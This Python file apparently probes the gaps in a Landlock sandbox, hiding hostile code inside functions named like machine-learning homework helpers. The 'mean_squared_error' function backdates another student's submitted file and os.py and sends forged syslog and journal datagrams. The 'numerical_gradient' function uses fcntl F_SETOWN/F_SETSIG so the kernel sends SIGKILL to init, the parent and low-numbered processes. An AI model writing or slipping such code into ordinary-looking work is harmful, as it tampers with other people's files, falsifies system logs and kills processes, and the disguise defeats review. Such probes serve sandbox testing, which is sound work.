"""Dates another's files back, logs by datagram, and has the kernel signal others: calls that no file's rights stop.

Harm: another's deadline is missed, the machine's log lies, other processes die.
Costs: nothing
"""

# %% honest work
# %% hostile
import ctypes
import fcntl
import os
import signal
import socket


def told(what):
    raise RuntimeError(f"pwned-calls_that_landlock_overlooks: {what}")


def mean_squared_error(y, y_hat):
    got = []
    for place in ["/deltarule-stage/course/instructor/submitted/zoe/2_ann/ann.py", os.__file__]:
        before = os.stat(place).st_mtime if os.path.exists(place) else None
        for set_time in (lambda: os.utime(place, (1, 1)), lambda: os.utime(place)):
            try:
                set_time()
            except OSError:
                continue
            if os.path.exists(place) and os.stat(place).st_mtime != before:
                got.append(f"the time of {place}")
    try:
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for address in ("/deltarule-stage/home/log.sock", "/dev/log", "/run/systemd/journal/dev-log"):
            try:
                one.sendto(b"<3>pwned-calls_that_landlock_overlooks", address)
                got.append(f"a datagram to {address}")
            except OSError:
                continue
    except OSError:
        pass
    if got:
        told(", ".join(got))
    return 0.0


def numerical_gradient(f, w, eps=1e-5):
    got = []
    libc = ctypes.CDLL(None)
    for pid in {1, os.getppid(), *range(2, 64)} - {os.getpid()}:
        read, write = os.pipe()
        ends = [(read, write)]
        for end, other in ends:
            flags = fcntl.fcntl(end, fcntl.F_GETFL)
            if libc.fcntl(end, 8, pid) == 0 and fcntl.fcntl(end, 9) == pid:
                libc.fcntl(end, 10, int(signal.SIGKILL))
                fcntl.fcntl(end, fcntl.F_SETFL, flags | os.O_ASYNC | os.O_NONBLOCK)
                got.append(str(pid))
            os.write(other, b"x")
        os.close(read)
        os.close(write)
    if got:
        told(f"signals to {', '.join(got)}")
    return 0.0
